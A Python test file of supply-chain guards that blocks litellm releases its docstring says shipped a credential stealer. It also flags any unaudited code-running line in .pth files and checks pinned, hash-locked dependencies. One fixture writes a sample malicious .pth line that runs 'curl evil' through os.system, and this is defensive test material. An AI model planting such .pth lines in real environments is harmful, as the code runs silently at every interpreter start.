"""Supply-chain guards: known-bad litellm releases and code-running .pth files.

litellm 1.82.7 and 1.82.8 shipped a credential stealer that ran from a `.pth` file at every
interpreter start; a `.pth` line that starts with `import` is executed by `site`, so any such
line is code that runs before ours. Only audited lines are allowed.
"""

from __future__ import annotations

import hashlib
import site
import sysconfig
import tomllib
from importlib import metadata
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
BAD_LITELLM = {"1.82.7", "1.82.8"}

# sha256 of each audited executable .pth line, with where it comes from.
AUDITED_PTH_LINES = {
    # setuptools' distutils-precedence.pth: picks setuptools' distutils over the stdlib's.
    hashlib.sha256(
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        b"enabled and __import__('_distutils_hack').add_shim(); "
    ).hexdigest(): "setuptools distutils-precedence.pth",
}


def _site_dirs() -> list[Path]:
    dirs = {Path(p) for p in site.getsitepackages()} | {Path(sysconfig.get_paths()["purelib"])}
    return sorted(d for d in dirs if d.is_dir())


def executable_pth_lines(directory: Path) -> list[tuple[str, str]]:
    """Lines of .pth files that `site` would execute (those starting with `import`)."""
    found = []
    for pth in sorted(directory.glob("*.pth")):
        for line in pth.read_text(errors="replace").splitlines():
            if line.startswith(("import ", "import\t")):
                found.append((pth.name, line))
    return found


def test_no_unaudited_code_in_pth_files() -> None:
    offending = [
        f"{d / name}: {line[:120]}"
        for d in _site_dirs()
        for name, line in executable_pth_lines(d)
        if hashlib.sha256(line.encode()).hexdigest() not in AUDITED_PTH_LINES
    ]
    assert not offending, "code runs from .pth files at interpreter start:\n" + "\n".join(offending)


def test_pth_scan_finds_code(tmp_path: Path) -> None:
    (tmp_path / "paths.pth").write_text("/some/dir\n# comment\n")
    (tmp_path / "evil.pth").write_text("import os; os.system('curl evil')\n")
    assert executable_pth_lines(tmp_path) == [("evil.pth", "import os; os.system('curl evil')")]


def test_installed_litellm_is_not_a_known_bad_release() -> None:
    try:
        version = metadata.version("litellm")
    except metadata.PackageNotFoundError:
        pytest.skip("litellm is not installed")
    assert version not in BAD_LITELLM
    assert not version.startswith("1.107."), "litellm 1.107.x was withdrawn"


def test_pyproject_excludes_bad_litellm_releases() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    (spec,) = [d for d in project["dependencies"] if d.startswith("litellm")]
    for bad in sorted(BAD_LITELLM):
        assert f"!={bad}" in spec
    assert "<1.107" in spec


@pytest.mark.parametrize("lock", ["runtime.lock", "test.lock"])
def test_lock_files_pin_exact_versions_with_hashes(lock: str) -> None:
    text = (ROOT / "requirements" / lock).read_text()
    requirements = [line for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert requirements, f"{lock} pins nothing"
    for line in requirements:
        assert "==" in line and line.rstrip().endswith("\\"), f"{lock}: not pinned with hashes: {line}"
    litellm = [line for line in requirements if line.startswith("litellm==")]
    assert litellm and litellm[0].split("==")[1].split()[0] not in BAD_LITELLM
